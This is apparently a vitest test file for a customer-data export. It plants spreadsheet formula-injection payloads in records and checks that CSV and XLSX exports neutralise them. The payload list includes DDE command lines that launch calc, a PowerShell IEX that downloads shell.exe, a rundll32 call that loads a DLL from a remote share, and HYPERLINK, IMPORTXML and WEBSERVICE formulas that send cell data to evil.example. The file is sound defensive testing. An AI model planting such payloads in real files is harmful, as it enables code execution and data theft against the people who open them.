/** Cells that a spreadsheet would run leave its profile harmless, and come back as they were. */
import { parse } from 'csv-parse/sync';
import { readXlsx } from 'hucre/xlsx';
import { describe, expect, test } from 'vitest';
import { customers } from '../../../src/datasets/customers.ts';
import { exported } from '../../support/export.ts';
import { useImports } from '../../support/import.ts';
import { plainWorkbook } from '../../support/workbook.ts';

const given = useImports();

const payloads = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|x',
  '+1+1',
  "-2+3+cmd|'x'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  '=IMPORTXML(CONCAT("http://evil.example/", A1), "//a")',
  '+1-555-010-0000',
  '-1-1',
  '@handle',
  "'=1+1",
  "''=1+1",
  '=1+1\n=2+2',
  '=1+1,2',
  '=1;2',
  '+44|x',
  'DDE ("cmd";"/C calc";"!A0")A0',
  "@SUM(2+9)*cmd|' /C calc'!A0",
  "=10+20+cmd|' /C calc'!A0",
  "=cmd|'/C powershell IEX(wget example/shell.exe)'!A0",
  "=cmd|'/c rundll32.exe \\\\192.0.2.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
  '=-2+3+cmd|"/C calc"!D2',
  '%0A-1+1+cmd|"/C calc"!A0',
  '=WEBSERVICE("http://evil.example/"&A1)',
  '=IMAGE("http://evil.example/i.png")',
  '"=1+1"',
  ';=1+1',
  ',=1+1',
  '=',
  '+',
  '-',
  '=)',
  'a\n=1+1',
  'a\t=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
];
/** Numbers and spaced phone numbers stay as they are: no spreadsheet takes them for a sum. */
const harmless = ['-12.5', '+44 20 7946 0018', '+1 (555) 010-0000', '-5.00', '+442079460018'];

/** A tenant whose customers have the payloads in several fields. @returns its id, and how many there are. */
async function infected(): Promise<{ readonly tenant: string; readonly amount: number }> {
  const tenant = await given.tenant();
  const records = [...payloads, ...harmless].map((payload, i) => ({
    number: `CUST-${String(i).padStart(6, '0')}`,
    first_name: payload,
    driver_notes: payload,
    tags: JSON.stringify([payload.replaceAll(/[,;]/g, ' ')]),
    groups: JSON.stringify([payload.replaceAll(/[,;]/g, ' ')]),
  }));
  const lines = records.map((record) => `${JSON.stringify(record)}\n`).join('');
  const made = await given.import(tenant, lines, { fileName: 'x.ndjson', require: [] });
  expect(made.created).toBe(records.length);
  return { tenant, amount: records.length };
}

describe.each(['comma', 'semicolon', 'tab'] as const)('delimited by %s', (delimiter) => {
  test('no cell begins as a formula, and all come back', async () => {
    const { tenant, amount } = await infected();
    const { file } = await exported(given.database, tenant, {
      dataset: customers,
      columns: 'all',
      csv: { delimiter },
    });
    const separator = { comma: ',', semicolon: ';', tab: '\t' }[delimiter];
    const cells = (parse(file, { bom: true, delimiter: separator }) as string[][]).flat();
    const dangerous = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell));
    expect(new Set(dangerous)).toEqual(new Set(harmless));

    const again = await given.import(tenant, file, { require: [] });
    expect({ unchanged: again.unchanged, read: again.rowsRead }).toEqual({
      unchanged: amount,
      read: amount,
    });
  });
});

test('a workbook holds each as a text that is none of its formulas, as it was', async () => {
  const { tenant } = await infected();
  const columns = [{ field: 'number' }, { field: 'first_name' }, { field: 'driver_notes' }];
  const sort = [{ field: 'number' }];
  const { file } = await exported(given.database, tenant, {
    dataset: customers,
    columns,
    sort,
    format: 'xlsx',
  });
  const [sheet] = plainWorkbook(file);
  expect(sheet?.xml).not.toContain('<f');
  const cells = sheet?.rows.slice(1).flatMap((row) => row.slice(1)) ?? [];
  expect(new Set(cells.map(({ type, format }) => `${type} ${format}`))).toEqual(new Set(['inlineStr @']));
  const texts = [...payloads, ...harmless].flatMap((payload) => [payload, payload]);
  expect(cells.map(({ value }) => value)).toEqual(texts);
  const read = await readXlsx(file);
  expect(read.sheets[0]?.rows.slice(1).flatMap((row) => row.slice(1))).toEqual(texts);
});
